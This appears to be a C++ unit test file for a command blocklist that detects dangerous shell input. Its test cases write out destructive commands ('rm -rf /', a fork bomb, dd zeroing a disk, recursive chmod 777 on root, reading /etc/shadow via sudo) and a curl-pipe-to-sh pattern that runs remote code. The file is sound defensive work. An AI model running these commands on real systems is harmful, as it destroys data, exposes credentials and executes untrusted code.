#include "policy/command_blocklist.hpp"

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace {

std::string RuleFor(const policy::CommandBlocklist& blocklist,
                    const std::string& command) {
  absl::optional<policy::CommandBlocklist::Violation> violation =
      blocklist.Check(command);
  return violation ? violation->rule_id : "";
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, DetectsDangerousCommands) {
  policy::CommandBlocklist blocklist;
  EXPECT_EQ(RuleFor(blocklist, "rm -rf /"), "rm-rf-root");
  EXPECT_EQ(RuleFor(blocklist, "rm -rf /*"), "rm-rf-root");
  EXPECT_EQ(RuleFor(blocklist, "rm -r -f /"), "rm-rf-root");
  EXPECT_EQ(RuleFor(blocklist, "echo hi; rm -fr / "), "rm-rf-root");
  EXPECT_EQ(RuleFor(blocklist, ":(){ :|:& };:"), "fork-bomb");
  EXPECT_EQ(RuleFor(blocklist, "bomb() { bomb | bomb & }; bomb"), "fork-bomb");
  EXPECT_EQ(RuleFor(blocklist, "dd if=/dev/zero of=/dev/sda"),
            "dd-zero-device");
  EXPECT_EQ(RuleFor(blocklist, "chmod 777 /"), "chmod-777-root");
  EXPECT_EQ(RuleFor(blocklist, "chmod -R 777 /"), "chmod-777-root");
  EXPECT_EQ(RuleFor(blocklist, "sudo ls"), "sudo");
  EXPECT_EQ(RuleFor(blocklist, "ls && sudo cat /etc/shadow"), "sudo");
  EXPECT_EQ(RuleFor(blocklist, "su -"), "su");
  EXPECT_EQ(RuleFor(blocklist, "su root"), "su");
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, AllowsHarmlessCommands) {
  policy::CommandBlocklist blocklist;
  EXPECT_EQ(RuleFor(blocklist, "echo hello"), "");
  EXPECT_EQ(RuleFor(blocklist, "rm -rf /tmp/build"), "");
  EXPECT_EQ(RuleFor(blocklist, "rm -rf ./out"), "");
  EXPECT_EQ(RuleFor(blocklist, "chmod 777 ./script.sh"), "");
  EXPECT_EQ(RuleFor(blocklist, "dd if=input.img of=out.img"), "");
  EXPECT_EQ(RuleFor(blocklist, "sudoku --solve"), "");
  EXPECT_EQ(RuleFor(blocklist, "cat summary.txt"), "");
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, Severities) {
  policy::CommandBlocklist blocklist;
  EXPECT_EQ(blocklist.Check("rm -rf /")->severity, proto::CRITICAL);
  EXPECT_EQ(blocklist.Check(":(){ :|:& };:")->severity, proto::CRITICAL);
  EXPECT_EQ(blocklist.Check("sudo ls")->severity, proto::HIGH);
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, LongCommands) {
  policy::CommandBlocklist blocklist;
  std::string padding;
  while (padding.size() < (1 << 20)) padding += "word ";
  EXPECT_EQ(RuleFor(blocklist, "echo " + padding), "");
  EXPECT_EQ(RuleFor(blocklist, "echo " + padding + "; sudo ls"), "sudo");
  EXPECT_EQ(RuleFor(blocklist, padding + "\n:(){ :|:& };:"), "fork-bomb");
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, MatchesAcrossWindowEdges) {
  policy::CommandBlocklist blocklist;
  // Windows are 4096 bytes long and overlap by 512.
  EXPECT_EQ(RuleFor(blocklist, std::string(4090, 'a') + " sudo ls"), "sudo");
  EXPECT_EQ(RuleFor(blocklist, std::string(3584, 'a') + "sudo ls"), "");
  EXPECT_EQ(RuleFor(blocklist, std::string(3583, 'a') + " sudo ls"), "sudo");
  EXPECT_EQ(RuleFor(blocklist, std::string(4093, 'a') + " su root"), "su");
  EXPECT_EQ(RuleFor(blocklist, std::string(4088, 'a') + " su rootkit"), "");
}

// NOLINTNEXTLINE
TEST(CommandBlocklist, AddPattern) {
  policy::CommandBlocklist blocklist;
  size_t builtin = blocklist.Size();
  std::string error_msg;
  EXPECT_TRUE(blocklist.Add("curl-pipe-sh", "curl[^|]*\\|\\s*sh",
                            proto::HIGH, &error_msg));
  EXPECT_EQ(blocklist.Size(), builtin + 1);
  EXPECT_EQ(RuleFor(blocklist, "curl http://x | sh"), "curl-pipe-sh");
  EXPECT_FALSE(blocklist.Add("broken", "(", proto::LOW, &error_msg));
  EXPECT_THAT(error_msg, ::testing::HasSubstr("broken"));
  EXPECT_EQ(blocklist.Size(), builtin + 1);
}

}  // namespace
